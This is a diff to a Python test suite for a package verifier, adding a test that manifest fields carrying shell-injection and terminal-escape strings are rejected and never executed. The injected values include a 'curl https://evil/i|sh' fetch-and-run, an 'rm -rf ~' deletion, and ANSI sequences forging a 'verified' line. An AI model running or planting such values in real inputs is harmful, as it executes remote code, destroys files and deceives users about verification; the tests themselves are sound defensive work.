@@ -103,6 +103,30 @@ def test_without_keys_and_self_test_it_says_what_it_left_out_and_runs_nothing(
     assert not canary.exists()
 
 
+MODULE = {"module": "nowhere", "distribution": "nowhere", "version": "1"}
+MADE_WITH = {"python": "3.11.7", "torch": torch.__version__, "interpool": "0.1.0"}
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("externs", [{**MODULE, "distribution": "x'; curl https://evil/i|sh; echo '"}]),
+        ("externs", [{**MODULE, "version": "1'; rm -rf ~; '"}]),
+        ("made_with", {**MADE_WITH, "python": "3.11.7\x1b[2J\x1b[Hverified m.ptpkg"}),
+        ("made_with", {**MADE_WITH, "torch": "2.13\nverified m.ptpkg"}),
+    ],
+)
+def test_no_text_of_a_manifest_reaches_a_shell_or_controls_a_terminal(
+    build: Callable[..., Path], canary: Path, field: str, value: Any
+) -> None:
+    done = verify(build(**{field: value}), "--no-self-test")
+    assert isinstance(done.exception, ManifestError)
+    assert done.exception.rule == field
+    assert "\x1b" not in done.output
+    assert "\nverified" not in done.output
+    assert not canary.exists()
+
+
 @pytest.mark.parametrize(
     ("damage", "error", "stage", "rule"),
     [
@@ -326,7 +350,7 @@ def test_a_mar_that_lies_about_a_size_is_refused(tmp_path: Path) -> None:
     at = data.rindex(b"PK\x01\x02") + 24
     data[at : at + 4] = (2**32 - 2).to_bytes(4, "little")
     mar.write_bytes(data)
-    with pytest.raises(StructureError, match=r"bytes|damaged|size"):
+    with pytest.raises(StructureError, match=r"bytes|damaged|size|described in two ways"):
         verify_archive(mar)
 
 
